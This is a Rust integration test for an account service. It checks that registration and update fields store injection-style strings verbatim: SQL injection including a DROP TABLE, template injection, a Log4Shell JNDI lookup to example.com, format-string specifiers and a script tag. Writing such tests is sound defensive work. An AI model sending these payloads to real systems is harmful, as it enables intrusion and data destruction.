//! BI-15: text that means something elsewhere is text here.

use accountd::proto;
use prost_types::{Struct, Value, value::Kind};

use super::roomy;
use crate::support::service::on_both_engines;

const TEXTS: [&str; 7] = [
    "' OR 1=1--",
    "Robert'); DROP TABLE accounts;--",
    "{{7*7}} {% raw %}",
    "${jndi:ldap://example.com/x}",
    "%s%n%00",
    "<script>alert(1)</script> &amp;",
    "\\u0000 \\0 \\x00",
];

fn attributes(text: &str) -> Struct {
    let value = Value {
        kind: Some(Kind::StringValue(text.to_owned())),
    };
    Struct {
        fields: [(String::from("note"), value)].into(),
    }
}

on_both_engines! {
    async fn bi_15_text_comes_back_as_it_went(engines) {
        let node = roomy(engines).await;
        let client = node.client();
        for (number, text) in TEXTS.into_iter().enumerate() {
            let name = format!("ada{number}");
            let message = proto::RegisterRequest {
                full_name: text.to_owned(),
                external_id: format!("{number}-'\"{{{{x}}}}%s"),
                attributes: Some(attributes(text)),
                ..client.registration(&name)
            };
            let account = client.register(message).await.unwrap().account.unwrap();
            assert_eq!(account.full_name, text);
            let code = client.code_for(&format!("{name}@example.com")).await;
            let tokens = client.activate(&account.id, &code).await.unwrap().tokens.unwrap();
            let ada = client.with(&tokens.access_token);
            let read = ada.current().await.unwrap();
            assert_eq!(read.full_name, text);
            assert_eq!(read.attributes, Some(attributes(text)));
            assert_eq!(read.external_id, format!("{number}-'\"{{{{x}}}}%s"));

            let other = TEXTS[(number + 1) % TEXTS.len()];
            let message = proto::UpdateRequest {
                full_name: other.to_owned(),
                attributes: Some(attributes(other)),
                ..proto::UpdateRequest::default()
            };
            ada.update(message).await.unwrap();
            let read = ada.current().await.unwrap();
            assert_eq!(read.full_name, other);
            assert_eq!(read.attributes, Some(attributes(other)));
        }
    }
}
